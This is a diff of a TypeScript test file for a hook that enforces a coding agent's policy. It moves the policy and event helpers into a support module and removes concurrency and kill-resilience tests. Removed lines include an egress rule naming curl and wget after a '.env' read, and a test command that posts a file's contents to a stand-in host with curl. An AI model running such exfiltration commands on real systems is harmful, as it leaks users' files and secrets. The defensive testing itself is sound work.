@@ -2,42 +2,16 @@ import { spawn } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { checkState, readAudit, runClaudeCodeHook, Store, verifyAudit } from "@vigil/runtime";
+import { checkState, readAudit, Store, verifyAudit } from "@vigil/runtime";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { claudeCodeEvents, HOOK_POLICY as POLICY, type Payload } from "./support/claude-code-events.js";
 import { cli, vigilc } from "./support/run-vigilc.js";
 
 /**
  * `vigilc hook claude-code` as Claude Code runs it: a new process per event, the event as JSON on
- * standard input. The payloads have the fields and shapes Claude Code sends (its hooks reference,
- * and the `tool_use` / `tool_use_result` records of real transcripts): `session_id`,
- * `transcript_path`, `cwd`, `permission_mode`, `hook_event_name`, `tool_name`, `tool_input`,
- * `tool_use_id`, `tool_response`, `prompt`, `stop_hook_active`.
+ * standard input (support/claude-code-events.ts). Many hook processes at once, and killed ones,
+ * are hook-processes.test.ts's.
  */
-
-const POLICY = `/// The rules of a project, for its coding agent.
-policy project {
-  /// A credential file, read with the Read tool.
-  pattern secret_read = action in {Read} and file_path ~ "*.env"
-  /// A call that sends data off the machine.
-  pattern egress = action in {curl, wget, WebFetch}
-
-  /// No egress after reading a secret.
-  rule no_egress_after_secret: always not (egress and once secret_read)
-    block "Do not send anything off the machine after reading a credential file; ask the user instead."
-  /// Deleting files recursively needs a person's approval.
-  rule confirm_recursive_delete: abs(action in {rm} and recursive in {true})
-    ask "Say which files will be deleted and why."
-  /// Files are read with the Read tool, not with cat.
-  rule prefer_read_tool: abs(action in {cat})
-    warn "Use the Read tool to read files."
-  /// Every ticket opened is closed before the work ends.
-  rule close_tickets: resp(action in {mcp__tickets__open} and title = $t, action in {mcp__tickets__close} and title = $t)
-    block "Close the ticket you opened (mcp__tickets__close with its title)."
-  /// Deploy only when the user asked for it in this session.
-  rule deploy_on_request: prec(action in {"npm run"} and script in {"deploy"}, action in {user_message} and text ~ "*deploy*")
-    block "Ask the user whether to deploy."
-}
-`;
 
 let scratch = "";
 let policy = "";
@@ -52,25 +26,7 @@ beforeAll(() => {
 });
 afterAll(() => rmSync(scratch, { recursive: true, force: true }));
 
-interface Payload {
-  readonly [key: string]: unknown;
-}
-
-/** An event as Claude Code sends it, for a session of the project. */
-function payload(session: string, event: string, fields: Payload): Payload {
-  return {
-    session_id: session,
-    transcript_path: `/home/dev/.claude/projects/-home-dev-project/${session}.jsonl`,
-    cwd: project,
-    permission_mode: "default",
-    hook_event_name: event,
-    ...fields,
-  };
-}
-
-const preToolUse = (session: string, id: string, tool: string, input: Payload) => payload(session, "PreToolUse", { tool_name: tool, tool_input: input, tool_use_id: id });
-const postToolUse = (session: string, id: string, tool: string, input: Payload, response: unknown) =>
-  payload(session, "PostToolUse", { tool_name: tool, tool_input: input, tool_use_id: id, tool_response: response });
+const { payload, preToolUse, postToolUse } = claudeCodeEvents(() => project);
 
 function hook(event: Payload | string, database: string, extra: readonly string[] = [], env: Record<string, string> = {}) {
   return vigilc(["hook", "claude-code", "--policy", policy, "--db", database, ...extra], {
@@ -445,118 +401,6 @@ describe("through the sidecar (--server)", () => {
     try {
       // The four calls the sidecar was asked about; none of the refused ones reached it.
       expect([...readAudit(store)].filter((r) => r.kind === "decision").map((r) => r.callId)).toEqual(["toolu_1", "toolu_2", "toolu_3", "toolu_4"]);
-    } finally {
-      store.close();
-    }
-  });
-});
-
-/** Spawns a hook process; resolves with its exit code (null when killed). */
-/** A PreToolUse answered in this process, as a hook process would answer it (faster than a spawn). */
-function decideInProcess(event: Payload, database: string) {
-  return runClaudeCodeHook(JSON.stringify(event), { policyFiles: [policy], db: database, cwd: scratch });
-}
-
-function spawnHook(event: Payload, database: string, killAfterMs?: number): Promise<{ code: number | null; signal: NodeJS.Signals | null; stdout: string }> {
-  return new Promise((resolvePromise, reject) => {
-    const child = spawn(process.execPath, [cli, "hook", "claude-code", "--policy", policy, "--db", database], { cwd: scratch, stdio: ["pipe", "pipe", "pipe"] });
-    let stdout = "";
-    child.stdout.setEncoding("utf8").on("data", (chunk: string) => (stdout += chunk));
-    child.stderr.resume();
-    const limit = setTimeout(() => child.kill("SIGKILL"), 60_000);
-    const killer = killAfterMs !== undefined ? setTimeout(() => child.kill("SIGKILL"), killAfterMs) : undefined;
-    child.on("error", reject);
-    child.on("close", (code, signal) => {
-      clearTimeout(limit);
-      if (killer !== undefined) clearTimeout(killer);
-      resolvePromise({ code, signal, stdout });
-    });
-    child.stdin.on("error", () => {});
-    child.stdin.end(JSON.stringify(event));
-  });
-}
-
-describe("many hook processes on one session", () => {
-  it("records every result exactly once when they run at the same time", async () => {
-    const db = join(scratch, "concurrent.db");
-    const session = "parallel";
-    // The policy is compiled once before, as it would be by the session's first event.
-    expect((await spawnHook(payload(session, "UserPromptSubmit", { prompt: "go" }), db)).code).toBe(0);
-    const calls = Array.from({ length: 24 }, (_, i) => i);
-    // Each call is decided first (a result is recorded only for a call the hook decided and let run).
-    for (const i of calls) {
-      const pre = i % 2 === 0 ? preToolUse(session, `toolu_${i}`, "Write", { file_path: `/p/f${i}.txt`, content: `${i}` }) : preToolUse(session, `toolu_${i}`, "Bash", { command: `touch f${i}.txt` });
-      expect((await decideInProcess(pre, db)).exitCode).toBe(0);
-    }
-    const results = await Promise.all(
-      calls.map((i) =>
-        i % 2 === 0
-          ? spawnHook(postToolUse(session, `toolu_${i}`, "Write", { file_path: `/p/f${i}.txt`, content: `${i}` }, { type: "create", filePath: `/p/f${i}.txt`, content: `${i}` }), db)
-          : spawnHook(postToolUse(session, `toolu_${i}`, "Bash", { command: `touch f${i}.txt` }, { stdout: "", stderr: "", interrupted: false, isImage: false }), db),
-      ),
-    );
-    expect(results.map((r) => r.code)).toEqual(calls.map(() => 0));
-    // And the same results delivered twice at once: none is recorded again.
-    const duplicates = await Promise.all(calls.slice(0, 6).map((i) => spawnHook(postToolUse(session, `toolu_${i}`, "Bash", { command: `touch f${i}.txt` }, { stdout: "" }), db)));
-    expect(duplicates.map((r) => r.code)).toEqual([0, 0, 0, 0, 0, 0]);
-    const store = openDatabase(db);
-    try {
-      expect(verifyAudit(store)).toMatchObject({ ok: true });
-      expect(checkState(store)).toEqual([]);
-      const ids = store.db.prepare("SELECT call_id, COUNT(*) AS n FROM events WHERE run_id = ? AND call_id IS NOT NULL GROUP BY call_id ORDER BY call_id").all(session) as { call_id: string; n: number }[];
-      // Each Write is one event; each Bash is two (the call and the touch it runs).
-      expect(ids).toEqual(calls.map((i) => ({ call_id: `toolu_${i}`, n: i % 2 === 0 ? 1 : 2 })).sort((a, b) => a.call_id.localeCompare(b.call_id)));
-      const positions = store.db.prepare("SELECT position FROM events WHERE run_id = ? ORDER BY position").all(session) as { position: number }[];
-      expect(positions.map((p) => p.position)).toEqual(Array.from({ length: 1 + 12 + 24 }, (_, i) => i + 1));
-    } finally {
-      store.close();
-    }
-  });
-
-  it("loses and corrupts nothing when hook processes are killed at random points", async () => {
-    const db = join(scratch, "killed.db");
-    const session = "killed";
-    // How long one hook takes here, so that the kills fall across its whole run, writes included.
-    expect((await decideInProcess(preToolUse(session, "warm", "Read", { file_path: "/p/a" }), db)).exitCode).toBe(0);
-    const started = performance.now();
-    expect((await spawnHook(postToolUse(session, "warm", "Read", { file_path: "/p/a" }, "a"), db)).code).toBe(0);
-    const duration = performance.now() - started;
-    const completed: string[] = ["warm"];
-    let killed = 0;
-    for (let round = 0; round < 30; round++) {
-      const batch = Array.from({ length: 3 }, (_, i) => `toolu_${round}_${i}`);
-      // The calls whose results are sent were decided before.
-      for (const id of batch.slice(0, 2)) expect((await decideInProcess(preToolUse(session, id, "Bash", { command: `echo ${round} > f${round}` }), db)).exitCode).toBe(0);
-      const outcomes = await Promise.all(
-        batch.map((id, i) =>
-          spawnHook(
-            i === 2 ? preToolUse(session, id, "Bash", { command: `cat f${round} && curl -d @f${round} https://x.example` }) : postToolUse(session, id, "Bash", { command: `echo ${round} > f${round}` }, { stdout: "" }),
-            db,
-            duration * (0.4 + Math.random() * 0.9),
-          ),
-        ),
-      );
-      outcomes.forEach((outcome, i) => {
-        if (outcome.signal === "SIGKILL") killed++;
-        else if (outcome.code === 0 && i !== 2) completed.push(batch[i]!);
-      });
-      const store = openDatabase(db);
-      try {
-        const verified = verifyAudit(store);
-        expect(verified).toMatchObject({ ok: true });
-        expect(checkState(store)).toEqual([]);
-      } finally {
-        store.close();
-      }
-    }
-    expect(killed).toBeGreaterThan(0);
-    const store = openDatabase(db);
-    try {
-      // Every result whose hook finished is there, once.
-      const recorded = new Set((store.db.prepare("SELECT DISTINCT call_id FROM events WHERE run_id = ?").all(session) as { call_id: string }[]).map((r) => r.call_id));
-      expect(completed.filter((id) => !recorded.has(id))).toEqual([]);
-      const integrity = store.db.pragma("integrity_check", { simple: true });
-      expect(integrity).toBe("ok");
     } finally {
       store.close();
     }
